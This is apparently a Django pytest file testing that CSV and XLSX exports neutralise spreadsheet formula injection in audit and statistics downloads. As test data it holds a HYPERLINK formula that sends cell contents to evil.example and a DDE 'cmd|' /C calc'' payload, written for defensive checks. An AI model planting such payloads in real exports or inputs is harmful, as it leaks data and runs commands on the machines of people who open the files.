"""CSV/formula injection: a value someone else typed never becomes a spreadsheet formula in an export."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tasks.access_log import record_access
from tasks.exports import FORMULA_TRIGGERS, csv_text, safe_cell, xlsx_bytes
from tasks.models import AccessAction, Division
from tests.conftest import HOME_VILLAGE
from tests.factories import TracingTaskFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_a_cell_starting_with_a_formula_trigger_is_made_text(trigger):
    assert safe_cell(f"{trigger}1+1") == f"'{trigger}1+1"


def test_numbers_and_plain_text_are_left_alone():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell("海口市") == "海口市" and safe_cell("a=b") == "a=b" and safe_cell("") == ""


def test_the_helpers_neutralise_header_and_rows():
    text = csv_text(["=h"], [["@SUM(A1)", 1]], bom=False)
    assert list(csv.reader(io.StringIO(text))) == [["'=h"], ["'@SUM(A1)", "1"]]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["h", "n"], [["+1", -2]]))).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["h", "n"], ["'+1", -2]]


def test_the_audit_export_does_not_carry_a_user_agent_or_reason_as_a_formula(
    client, auditor, password, hainan
):
    task = TracingTaskFactory()
    reader = UserFactory(role="duty_officer", division_id="460105")
    record_access(reader, action=AccessAction.REVEAL, objects=[task], reason="-2+3+cmd|' /C calc'!A0")
    client.defaults["HTTP_USER_AGENT"] = FORMULA
    client.login(username=auditor.username, password=password)
    response = client.get(reverse("audit_person_export", kwargs={"person_id": task.person_id}))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'-2+3+cmd|' /C calc'!A0" in cells
    assert f"'{FORMULA}" in cells  # the export itself was logged with the auditor's user agent
    assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in cells)


def test_the_statistics_exports_do_not_carry_a_division_name_as_a_formula(client, duty_officer, password):
    from openpyxl import load_workbook

    Division.objects.filter(code=HOME_VILLAGE).update(name="@SUM(1+1)*cmd")
    TracingTaskFactory()
    client.login(username=duty_officer.username, password=password)
    text = client.get("/stats/export/", {"level": "village", "export": "csv"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'@SUM(1+1)*cmd" in cells and "@SUM(1+1)*cmd" not in cells
    xlsx = client.get("/stats/export/", {"level": "village", "export": "xlsx"})
    values = [c.value for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows() for c in row]
    assert "'@SUM(1+1)*cmd" in values and "@SUM(1+1)*cmd" not in values
